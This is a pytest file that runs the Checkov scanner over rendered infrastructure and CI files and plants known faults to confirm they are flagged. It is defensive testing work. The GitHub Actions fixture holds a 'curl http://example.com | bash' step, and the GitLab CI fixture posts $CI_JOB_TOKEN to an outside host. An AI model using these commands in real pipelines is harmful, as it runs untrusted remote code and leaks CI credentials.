"""Checkov over all renders: something passed, nothing failed, all was readable, and few skips, each with its reason."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from gallery import Gallery

from validators.tools import need, run
from validators.tree import by_file, by_top, collect

FRAMEWORKS = {
    "terraform": (("infra/*.tf", "infra/*.tfvars", "infra/*.tpl", "infra/*.tftpl", "infra/*.json"), by_top),
    "dockerfile": (("Dockerfile", "Containerfile"), by_file),
    "github_actions": ((".github/*",), by_top),
    "gitlab_ci": ((".gitlab-ci.yml", ".gitlab/ci/*.yml"), by_file),
}
FAULTS = {
    "terraform": ("infra/terraform/main.tf", 'resource "aws_s3_bucket" "one" {\n  bucket = "one"\n}\n', "CKV_AWS_18"),
    "dockerfile": ("Dockerfile", 'FROM scratch\nCMD ["/app"]\n', "CKV_DOCKER_2"),
    "github_actions": (
        ".github/workflows/a.yml",
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: curl http://example.com | bash\n",
        "CKV2_GHA_1",
    ),
    "gitlab_ci": (
        ".gitlab-ci.yml",
        "a:\n  script:\n    - curl --data token=$CI_JOB_TOKEN https://example.com\n",
        "CKV_GITLABCI_1",
    ),
}
MOST_SKIPPED = 0.03


def checkov(framework: str, folder: Path) -> dict[str, Any]:
    """The report of one framework."""
    code, output = run(
        [
            need("checkov"),
            "--directory",
            ".",
            "--framework",
            framework,
            "--output",
            "json",
            "--compact",
            "--skip-download",
            "--soft-fail",
            "--skip-resources-without-violations",
        ],
        cwd=folder,
        env={"LOG_LEVEL": "ERROR", "CHECKOV_RUN_IN_DOCKER": ""},
    )
    assert code == 0, output
    report = json.loads(output[min(output.find(mark) for mark in "{[" if mark in output) :])
    assert "results" in report, f"checkov read nothing: {output[:500]}"
    return dict(report)


@pytest.mark.parametrize("framework", FRAMEWORKS)
def test_policy(framework: str, gallery: Gallery, tmp_path: Path) -> None:
    """Zero failed checks in all renders."""
    globs, group = FRAMEWORKS[framework]
    tree = collect(gallery, globs, tmp_path / "renders", group)
    if not tree.files:
        pytest.skip(f"no render has files for checkov {framework}")
    for file in [*tree.folder.rglob(".gitlab/ci/*.yml")]:  # it takes this name only, and looks into no hidden folder
        file.rename(file.parents[2] / f"{file.stem}.gitlab-ci.yml")
    report = checkov(framework, tree.folder)
    findings = [
        "{file_path}:{file_line_range[0]} {check_id} {resource}: {check_name}".format(**check).lstrip("/")
        for check in report["results"]["failed_checks"]
    ]
    counts = report["summary"]
    unread = [str(error) for error in report["results"]["parsing_errors"]]
    without_reason = [
        f"{check['file_path']} {check['check_id']}: skipped without a reason"
        for check in report["results"]["skipped_checks"]
        if not (check["check_result"].get("suppress_comment") or "").strip()
    ]
    wrong = [*findings, *unread, *without_reason]
    if wrong:
        text = "\n".join(sorted(set(wrong)))
        pytest.fail(f"checkov {framework}: {counts}\n{text}\n{tree.shared(text)}", pytrace=False)
    print(f"checkov {framework}: {counts['passed']} passed, {counts['skipped']} skipped")
    assert counts["passed"] > 0
    assert counts["failed"] == counts["parsing_errors"] == 0
    assert counts["skipped"] < MOST_SKIPPED * counts["passed"] or not counts["skipped"]


@pytest.mark.parametrize("framework", FAULTS)
def test_planted_fault(framework: str, tmp_path: Path) -> None:
    """The planted fault fails a check."""
    path, text, check_id = FAULTS[framework]
    (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / path).write_text(text, encoding="utf-8")
    assert check_id in {check["check_id"] for check in checkov(framework, tmp_path)["results"]["failed_checks"]}
